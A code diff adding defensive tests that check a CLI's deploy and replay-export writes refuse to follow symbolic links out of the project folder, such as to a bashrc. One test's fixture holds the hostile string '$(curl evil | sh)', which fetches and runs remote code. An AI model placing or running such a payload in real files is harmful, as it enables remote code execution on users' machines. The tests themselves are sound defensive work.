@@ -382,3 +382,53 @@ async def test_a_repositorys_jido_link_gets_no_folders_made_outside(system: Syst
     project = await system.project("jidolink", hostile)
     await AssetsClient(system.bus, project.project_id).list(timeout=30)  # the assets are loaded
     assert list(outside.iterdir()) == []
+
+
+# --- the CLI's own writes into the folder it runs in (often a project) -----------------------------
+
+
+async def test_deploy_env_never_writes_passwords_through_a_link(tmp_path: Path) -> None:
+    from typer.testing import CliRunner
+
+    from jidocode.cli.deploy import app
+
+    project = tmp_path / "project"
+    project.mkdir()
+    readable = tmp_path / "outside" / "public.txt"  # e.g. a file the model (or anyone) can read
+    readable.parent.mkdir()
+    readable.write_bytes(CANARY)
+    (project / ".env").symlink_to(readable)
+    result = CliRunner().invoke(app, ["env", "--out", str(project / ".env"), "--force"])
+    _untouched(readable)
+    assert result.exit_code == 2 and ".env is a symbolic link" in result.output
+    assert (project / ".env").is_symlink()
+
+
+async def test_a_replay_recording_never_overwrites_through_a_link(tmp_path: Path) -> None:
+    from jidocode.cli.replay import Recording, RecordingHeader, write_recording
+
+    project = tmp_path / "project"
+    project.mkdir()
+    bashrc = tmp_path / "outside" / "bashrc"
+    bashrc.parent.mkdir()
+    bashrc.write_bytes(CANARY)
+    target = project / "01conversation.jsonl"  # `replay export`'s default name, in the cwd
+    target.symlink_to(bashrc)
+    recording = Recording(
+        header=RecordingHeader(project_id="p", conversation_id="01conversation", entries=0, answers=0),
+        entries=[],
+        answers=[],
+        projections={"text": "$(curl evil | sh)"},
+    )
+    refused: InvalidInput | None = None
+    try:
+        write_recording(target, recording)
+    except InvalidInput as exc:
+        refused = exc
+    _untouched(bashrc)
+    assert refused is not None and "01conversation.jsonl is a symbolic link" in refused.message
+    write_recording(project / "kept.jsonl", recording)  # a plain file is written as before
+    assert (
+        json.loads((project / "kept.jsonl").read_text().splitlines()[0])["conversation_id"]
+        == "01conversation"
+    )
